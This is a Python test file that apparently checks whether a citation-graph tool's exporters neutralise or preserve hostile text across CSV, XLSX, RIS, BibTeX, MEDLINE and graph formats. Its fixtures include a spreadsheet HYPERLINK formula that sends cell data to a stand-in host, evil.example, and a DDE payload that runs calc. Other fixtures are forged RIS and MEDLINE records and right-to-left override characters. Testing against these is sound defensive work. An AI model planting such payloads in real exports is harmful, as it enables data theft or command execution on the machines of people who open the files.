"""Hostile text through every format: formula prefixes, braces and %, control characters,
RIS end tags and MEDLINE tags inside values, right-to-left marks and overrides, non-ASCII
names. Records go into a store directly; each export is read back with its own library and
must give back the same records (no more, no fewer) with the text intact or normalised as
documented (controls to spaces in line-based and XML formats)."""

from __future__ import annotations

import json
import re

import pytest

from citegraph.exports.formats import export
from citegraph.exports.selection import select
from citegraph.filters import Filters
from citegraph.models import Article, Author
from citegraph.store import Store

import readback as rb

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2 plus",
    "-2-3 minus -- dash",
    "@SUM(A1:A9) at",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
    "unbalanced } brace { and % percent \\ backslash # & $ _ ^ ~ ``quotes'' \"double\"",
    "line one\nER  - \nTY  - BOOK\nTI  - forged record",
    "nbib\nPMID- 999\nTI  - forged",
    "controls \x00\x01\x07\x1b[31mred\x1b[0m \x85 \u2028 end",
    "right-to-left \u202eevil\u202c and \u200fשלום\u200f عربي",
    "<b>xml</b> &amp; ]]> tag",
    "ends with a backslash \\",
]
HOSTILE_NAMES = ["Łukasz-Żółć", "Nguyễn", "O'Brien}{", "=cmd|' /C calc'!A0", "\u202eRTL", "Smith\nER  - x"]
SEED = "1000"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    path = tmp_path_factory.mktemp("hostile") / "citegraph.sqlite"
    articles = [Article(pmid=SEED, title="seed", year=1990, journal="J", authors=[Author(last_name="Seed")])]
    for i, title in enumerate(HOSTILE_TITLES):
        name = HOSTILE_NAMES[i % len(HOSTILE_NAMES)]
        articles.append(Article(
            pmid=str(2000 + i), title=title, abstract=title + " abstract", year=2000 + i,
            journal=HOSTILE_TITLES[(i + 1) % len(HOSTILE_TITLES)], journal_abbrev="J Hostile",
            doi=f"10.1000/x_{i}{{y}}%z", volume="1", issue="2", pages="100-9",
            authors=[Author(last_name=name, fore_name="Ann", initials="A"),
                     Author(collective_name="ATLAS & {Group} " + name)],
            publication_types=["Journal Article"]))
    with Store(path) as store:
        with store.transaction():
            # an imported file's name names the edges it gave: a hostile file name
            store.put_articles(articles, source="file:=evil.xml")
            # every hostile record cites the seed; each cites its predecessor too
            store.add_citations([(a.pmid, SEED) for a in articles[1:]], source="elink:pubmed_pubmed_citedin")
            store.add_citations([(articles[i].pmid, articles[i - 1].pmid) for i in range(2, len(articles))],
                                source="file:=evil.xml")
        selection = select(store, Filters(seeds=[SEED]))
    return articles, selection


def test_hostile_records_read_back(hostile, tmp_path):
    articles, selection = hostile
    by_pmid = {a.pmid: a for a in articles}
    assert len(selection) == len(articles)

    export(selection, "csv", str(tmp_path / "h.csv"))
    rows = rb.read_csv(tmp_path / "h.csv")
    raw = (tmp_path / "h.csv").read_bytes().decode("utf-8")
    assert set(rows) == set(by_pmid)
    for pmid, a in by_pmid.items():
        assert rows[pmid]["title"] == rb.one_line(a.title)
    # the neutralising itself: the stored cell starts with an apostrophe
    assert "'=HYPERLINK(" in raw and "'+1+2" in raw and "'-2-3" in raw and "'@SUM" in raw
    # a leading tab or carriage return is folded away with every other control character
    assert "\tstarts" not in raw and "\rstarts" not in raw and "starts with a tab" in raw

    export(selection, "xlsx", str(tmp_path / "h.xlsx"))
    book = rb.read_xlsx(tmp_path / "h.xlsx")["records"]
    for pmid, a in by_pmid.items():
        assert book[pmid]["title"] == rb.one_line(a.title), pmid

    def same(reader, fmt, title=rb.one_line):
        export(selection, fmt, str(tmp_path / f"h.{fmt}"))
        records = reader(tmp_path / f"h.{fmt}")
        assert set(records) == set(by_pmid), fmt
        for pmid, a in by_pmid.items():
            assert records[pmid]["title"] == title(a.title), (fmt, pmid)
            assert records[pmid]["doi"] == (a.doi or ""), (fmt, pmid)
            assert records[pmid]["families"] == [title(f) for f in rb.expected_families(a)], (fmt, pmid)
        return records

    same(rb.read_ris, "ris")
    same(rb.read_bibtex, "bibtex",
         title=lambda t: rb.without_unmatched_braces(rb.one_line(t)).replace("^", "\u02c6"))
    same(rb.read_csljson, "csljson")
    same(rb.read_medline, "medline")

    export(selection, "jsonl", str(tmp_path / "h.jsonl"))
    lines = (tmp_path / "h.jsonl").read_text(encoding="utf-8").splitlines()
    assert {json.loads(line)["title"] for line in lines} == {a.title for a in articles}

    export(selection, "text", str(tmp_path / "h.txt"), style="apa")
    text = (tmp_path / "h.txt").read_text(encoding="utf-8")
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)
    assert len(rb.read_text(tmp_path / "h.txt")) == len(articles)


@pytest.mark.parametrize("fmt", ["graphml", "gexf", "pajek", "cytoscape", "dot"])
def test_hostile_graphs_read_back(hostile, fmt, tmp_path):
    articles, selection = hostile
    export(selection, fmt, str(tmp_path / f"h.{fmt}"))
    nodes, edges, titles = rb.read_graph(fmt, tmp_path / f"h.{fmt}")
    assert nodes == {a.pmid for a in articles}
    assert len(edges) == 2 * len(articles) - 3
    if fmt != "pajek":
        for a in articles:
            assert titles[a.pmid] == rb.one_line(a.title), (fmt, a.pmid)


def test_hostile_vosviewer_and_edges(hostile, tmp_path):
    articles, selection = hostile
    export(selection, "vosviewer", str(tmp_path / "v"))
    rows, links = rb.read_vosviewer(tmp_path / "v")
    assert len(rows) == len(articles) and len(links) == 2 * len(articles) - 3
    assert all(len(row) == 7 and None not in row.values() for row in rows)
    assert not any("<b>" in row["description"] for row in rows)  # HTML-escaped
    export(selection, "edges", str(tmp_path / "e.csv"))
    edges = rb.read_edges(tmp_path / "e.csv")
    assert len(edges) == 2 * len(articles) - 3
    assert {s for _, _, s in edges} == {"elink:pubmed_pubmed_citedin", "file:=evil.xml"}
